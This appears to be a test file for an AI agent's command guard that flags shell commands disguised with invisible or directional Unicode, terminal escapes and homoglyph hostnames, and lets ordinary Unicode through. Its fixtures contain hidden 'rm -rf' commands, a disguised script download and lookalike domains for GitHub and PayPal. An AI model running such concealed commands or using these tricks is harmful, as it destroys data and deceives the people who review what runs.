import { deceptiveText } from './deceptive-text.js';
import { HARM_RULES } from './harm-rules.js';
import { bashContext, ruleContext } from './rule-context.fixture.js';

const hidden = HARM_RULES.find((r) => r.name === 'hidden_code_execution')!;

describe('text that reads differently from what runs', () => {
  it.each([
    ['a bidirectional override', 'echo "done"\u202E ; rm -rf ~ #', '\\u202E'],
    ['an isolate', 'git commit -m "fix \u2067tests\u2069"', '\\u2067'],
    ['a zero-width space inside an address', 'curl -o i.sh https://exa\u200Bmple.com/i.sh', '\\u200B'],
    ['a word joiner inside a path', 'cat ./con\u2060fig.json', '\\u2060'],
    ['an escape sequence', 'echo ok\u001B[2K\u001B[1Arm -rf build', '\\u001B'],
    ['a backspace', 'ls safe\u0008\u0008\u0008\u0008rm', '\\u0008'],
  ])('holds a command with %s, showing it written out', (_what, command, escape) => {
    const found = hidden.evaluate(bashContext(command));
    expect(found?.verdict).toBe('require_approval');
    expect(found?.reason).toContain(escape);
  });

  it('holds a request to a host that mixes Latin with Cyrillic or Greek letters', () => {
    expect(hidden.evaluate(bashContext('git clone https://g\u0456thub.com/org/repo'))?.reason).toContain('g\u0456thub.com');
    expect(hidden.evaluate(ruleContext('WebFetch', { url: 'https://\u0440aypal.com/login', prompt: 'read' }))?.verdict).toBe('require_approval');
  });

  it.each([
    ['right-to-left text with its marks', 'git commit -m "\u05EA\u05D9\u05E7\u05D5\u05DF \u200Fבאג"'],
    ['an emoji sequence joined by zero-width joiners', 'git commit -m "\u{1F468}\u200D\u{1F4BB} docs"'],
    ['accented Latin', 'echo "Caf\u00E9 cr\u00E8me" > menu.txt'],
    ['a host wholly in another script', 'curl https://\u043F\u0440\u0438\u043C\u0435\u0440.\u0440\u0444/'],
    ['tabs and new lines', 'printf "a\\tb\\n" &&\n echo done'],
    ['a NUL or a bell, which no terminal shows', "python - <<'PY'\nfor line in open('a.txt'):\n    if '\u0000' in line or '\u0007' in line: print(line)\nPY"],
  ])('leaves %s alone', (_what, command) => {
    expect(hidden.evaluate(bashContext(command))).toBeNull();
    expect(deceptiveText(command, [])).toBeUndefined();
  });
});
